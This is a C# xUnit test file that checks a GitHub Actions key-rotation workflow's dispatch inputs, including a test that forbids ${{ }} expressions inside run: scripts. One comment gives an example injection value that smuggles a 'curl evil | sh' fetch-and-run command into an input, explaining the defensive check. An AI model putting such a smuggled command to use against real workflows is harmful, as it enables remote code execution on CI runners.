using System.Text.RegularExpressions;

namespace Rekey.Workflows.Tests;

/// <summary>The dispatch inputs: described, used, and never pasted into a script.</summary>
public sealed partial class InputTests
{
    public static TheoryData<string> Workflows => new(Workflow.FileNames);

    [Theory]
    [MemberData(nameof(Workflows))]
    public void Every_input_is_used(string fileName)
    {
        var workflow = Workflow.Load(fileName);
        var text = string.Join("\n", workflow.ScalarsOutsideTriggers());

        var unused = workflow.DispatchInputs.Keys.Where(name => !text.Contains($"inputs.{name}", StringComparison.Ordinal)).ToList();

        Assert.True(unused.Count == 0, $"{fileName}: inputs never used: {string.Join(", ", unused)}");
    }

    [Theory]
    [MemberData(nameof(Workflows))]
    public void Every_input_has_a_description(string fileName)
    {
        var undescribed = Workflow.Load(fileName).DispatchInputs
            .Where(i => string.IsNullOrWhiteSpace(Workflow.Text(i.Value, "description")))
            .Select(i => i.Key)
            .ToList();

        Assert.Empty(undescribed);
    }

    [Theory]
    [MemberData(nameof(Workflows))]
    public void No_run_script_expands_an_expression(string fileName)
    {
        // ${{ }} in run: is pasted into the script's text before bash reads it, so an input such as
        // `x"; curl evil | sh; "` would run. Values reach scripts through env: instead.
        var offending = Workflow.Load(fileName).Jobs
            .SelectMany(j => j.Steps)
            .Where(s => s.Run is not null && ExpressionPattern().IsMatch(s.Run))
            .Select(s => $"{s}: {ExpressionPattern().Match(s.Run!).Value}")
            .ToList();

        Assert.True(offending.Count == 0, $"Expressions inside run: scripts:\n{string.Join("\n", offending)}");
    }

    [Fact]
    public void The_dispatch_form_asks_for_environment_cluster_phase_key_dry_run_and_the_run_to_resume()
    {
        var inputs = Workflow.Load("rekey.yml").DispatchInputs;

        Assert.Equal(["cluster", "dry-run", "environment", "kms-key", "phase", "run-id"], inputs.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("string", Workflow.Text(inputs["run-id"], "type"));
        Assert.Equal("environment", Workflow.Text(inputs["environment"], "type"));
        Assert.Equal("boolean", Workflow.Text(inputs["dry-run"], "type"));
        Assert.Equal("choice", Workflow.Text(inputs["phase"], "type"));
        Assert.Equal(
            ["plan", "cutover", "backup", "rollback", "cleanup"],
            Workflow.AllScalars(Workflow.Child(inputs["phase"], "options")!));
    }

    [GeneratedRegex(@"\$\{\{[^}]*\}\}")]
    private static partial Regex ExpressionPattern();
}
